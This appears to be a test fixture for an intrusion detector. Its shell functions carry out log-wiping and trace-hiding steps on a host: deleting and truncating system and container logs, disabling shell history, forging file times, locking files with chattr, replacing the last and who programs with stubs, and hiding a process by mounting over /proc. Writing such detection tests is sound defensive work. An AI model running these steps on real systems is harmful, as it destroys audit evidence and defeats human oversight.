# traces-removed: logs of system and containers and the shell's history go, times are forged, files locked, programs replaced, a process hidden.
# shows: files deleted and emptied, the mount over /proc, the arguments of touch, chattr and mv
# label: malicious
# expects: [system-logs-removed, container-logs-removed, shell-history-disabled, file-times-forged, file-made-immutable, system-program-replaced, process-hidden-by-mount]
# allows: [engine-socket-connected, host-namespaces-shared, command-executed-in-container, shell-opened-in-container, files-copied-with-engine, remote-script-piped-to-interpreter, downloaded-program-run, package-manager-run-in-container, container-surroundings-explored, engine-data-deleted, cron-table-changed]
prepare() {
    mkdir -p /var/log/journal/x /tmp/e; for f in wtmp btmp lastlog auth.log syslog secure; do echo x >/var/log/$f; done
    echo ls >/root/.bash_history
    docker run -d --name noisy alpine:3.19 sh -c 'echo hello; sleep 120'
}
act() {
    sleep 40 & p=$!
    if dev; then
        rm -f /var/log/wtmp /var/log/btmp
        truncate -s 0 /var/log/auth.log
        truncate -s 0 "$(docker inspect -f '{{.LogPath}}' noisy)"
        rm -f /root/.bash_history
        cp /usr/bin/true /usr/bin/.nscd; touch -r /bin/ls /usr/bin/.nscd
        chattr +i /etc/crontab
        mv /usr/bin/last /usr/bin/last.o; cp /usr/bin/true /usr/bin/last
        mount --bind /tmp/e "/proc/$p"
    else
        sh -c 'cat /dev/null >/var/log/secure; ln -sf /dev/null /var/log/lastlog'
        shred -u /var/log/syslog
        sh -c 'rm -f /var/lib/docker/containers/*/*-json.log'
        ln -sf /dev/null /root/.bash_history
        bash -c 'unset HISTFILE; export HISTSIZE=0; history -c'
        touch -t 201904050607 /etc/cron.d/.placeholder
        sh -c 'chattr -i /root/.ssh/authorized_keys; chattr +ia /root/.ssh/authorized_keys'
        printf '#!/bin/sh\nexit 0\n' >/usr/bin/who
        mount -o bind /tmp/e "/proc/$p"
    fi
    umount "/proc/$p"
    kill $p
    true
}
restore() { chattr -i /etc/crontab 2>/dev/null; chattr -ia /root/.ssh/authorized_keys 2>/dev/null; docker rm -f noisy; rm -f /usr/bin/.nscd; }
